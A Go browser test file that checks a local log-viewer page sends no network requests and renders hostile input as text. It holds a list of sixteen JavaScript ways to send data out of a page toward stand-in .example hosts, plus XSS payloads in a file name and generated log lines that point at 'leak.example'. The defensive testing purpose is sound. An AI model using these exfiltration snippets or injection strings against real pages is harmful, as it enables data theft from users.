package browsertest

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// attempts are ways out of a page. HOST is replaced.
var attempts = map[string]string{
	"fetch":       `fetch("http://HOST/")`,
	"xhr":         `{ const x = new XMLHttpRequest(); x.open("POST", "http://HOST/"); x.send("a"); }`,
	"socket":      `new WebSocket("ws://HOST/")`,
	"events":      `new EventSource("http://HOST/")`,
	"import":      `import("http://HOST/a.js")`,
	"beacon":      `navigator.sendBeacon("http://HOST/", "a")`,
	"image":       `new Image().src = "http://HOST/a.png"`,
	"frame":       `document.body.append(Object.assign(document.createElement("iframe"), { src: "http://HOST/" }))`,
	"form":        `{ const f = document.createElement("form"); f.action = "http://HOST/"; f.method = "post"; const i = document.createElement("iframe"); i.name = "into"; document.body.append(i, f); f.target = "into"; f.submit(); }`,
	"script":      `document.body.append(Object.assign(document.createElement("script"), { src: "http://HOST/a.js" }))`,
	"style":       `document.body.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "http://HOST/a.css" }))`,
	"prefetch":    `document.body.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "http://HOST/a" }))`,
	"media":       `document.body.append(Object.assign(document.createElement("video"), { src: "http://HOST/a.webm" }))`,
	"object":      `document.body.append(Object.assign(document.createElement("object"), { data: "http://HOST/a" }))`,
	"worker":      `new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/'); importScripts('http://HOST/a.js')"])))`,
	"shown frame": `el("report").src = URL.createObjectURL(new Blob(["<meta http-equiv=refresh content='0;url=http://HOST/'><img src='http://HOST/a.png'><script>fetch('http://HOST/')</script><a href='http://HOST/' ping='http://HOST/'>a</a>"], { type: "text/html" }))`,
}

// TestNothingLeaves tries to get out of the page in every way: no request comes to the network. The same
// ways lead out of a page without a policy.
func TestNothingLeaves(t *testing.T) {
	free := filepath.Join(t.TempDir(), "free.html")
	if err := os.WriteFile(free, []byte(`<!DOCTYPE html><title>free</title><body><iframe id="report"></iframe><script>const el = (id) => document.getElementById(id);</script>`), 0o644); err != nil {
		t.Fatal(err)
	}
	outside.serve("free.example", free)
	host := func(from, name string) string { return strings.ReplaceAll(name, " ", "-") + "." + from + ".example" }
	try := func(b *tab, from string) {
		for name, script := range attempts {
			script = strings.ReplaceAll(script, "HOST", host(from, name))
			// What is refused throws, or not.
			eval[bool](b, fmt.Sprintf(`(() => { try { const tried = (() => { %s; })(); } catch {} return true; })()`, script))
		}
	}
	b := open(t, "file://"+pageFile)
	b.choose("files", filepath.Join(root, "testdata/logs/saved-from-browser.log"))
	b.reported()
	try(b, "page")
	out := open(t, "http://free.example/")
	try(out, "out")
	// What leaves the free page arrives after what would have left the other page before.
	for name := range attempts {
		out.untilSeen(host("out", name))
	}
	for name := range attempts {
		if got := outside.seen(host("page", name)); len(got) > 0 {
			t.Errorf("%s: %q", name, got)
		}
	}
}

// untilSeen waits until a request for a host has come.
func (b *tab) untilSeen(host string) {
	b.Helper()
	for range 200 {
		if len(outside.seen(host)) > 0 {
			return
		}
		eval[int](b, "new Promise((done) => setTimeout(() => done(1), 50))")
	}
	b.Errorf("no request for %s has come from a page without a policy", host)
}

const hostileName = `<img src=x onerror=alert(1)> & "quoted".log.gz`

// TestDamaged reads a truncated file with a hostile name and hostile lines: the message names the file and
// the byte, the report is of what could be read, and nothing becomes an element.
func TestDamaged(t *testing.T) {
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	for i := range 20_000 {
		fmt.Fprintf(z, "2026-11-23T10:%02d:%02d.%03dZ OpenTok:Session:error OT_TIMEOUT: Session.publish :: <script>alert(%d)</script><img src=http://leak.example/%d>\n", i/1000, i/17%60, i*7919%1000, i*i, i)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, hostileName), packed.Bytes()[:packed.Len()/2], 0o644); err != nil {
		t.Fatal(err)
	}
	b := open(t, "file://"+pageFile)
	b.choose("files", filepath.Join(dir, hostileName))
	b.reported()
	want, status := native(t, dir, "report", "--format", "json", "--", hostileName)
	if status != 3 {
		t.Errorf("the command ends with status %d", status)
	}
	compare(t, hostileName, reportOf(b, "json"), want)
	got := b.text("trouble")
	for _, want := range []string{hostileName + ": ", "byte ", "The report covers the rest."} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is not in %q", want, got)
		}
	}
	if n := eval[int](b, `document.querySelectorAll("#trouble li *, #trouble img, #trouble script").length`); n > 0 {
		t.Errorf("%d elements in messages", n)
	}
	if got := outside.seen("leak.example"); len(got) > 0 {
		t.Errorf("requests: %q", got)
	}
	b.quiet()
}

// TestUnreadable chooses a file that is no log, none at all, and one that changes before it is read again.
func TestUnreadable(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "app.log")
	write := func(text string) {
		t.Helper()
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("2026-11-23T10:00:00Z OpenTok:Session:error OT_TIMEOUT: Session.publish :: timed out\n")
	b := open(t, "file://"+pageFile)
	b.choose("files", path)
	b.reported()
	write("2026-11-23T10:00:00Z another text of another length\n")
	b.click("again")
	b.until(`!el("trouble").hidden && el("work").hidden`, changing)
	if got := b.text("trouble"); !strings.Contains(got, "app.log: ") || !strings.Contains(got, "I/O error") || !strings.Contains(got, "choose it again") {
		t.Errorf("a file that changed: %q", got)
	}
	program := filepath.Join(dir, "program")
	if err := os.WriteFile(program, bytes.Repeat([]byte("\x7fELF\x00\x01\x02\xff"), 4096), 0o644); err != nil {
		t.Fatal(err)
	}
	b.choose("files", program)
	b.until(`/program/.test(el("trouble").textContent) && el("work").hidden`, changing)
	if got := b.text("trouble"); !strings.Contains(got, "program: ") {
		t.Errorf("a program: %q", got)
	}
	b.drop(t.TempDir())
	b.until(`el("status").textContent === "There are no files in it."`, changing)
	b.quiet()
}

// click clicks on an element.
func (b *tab) click(id string) {
	b.Helper()
	b.check(chromedp.Do(b.ctx, chromedp.Click(chromedp.CSS("#"+id))))
}
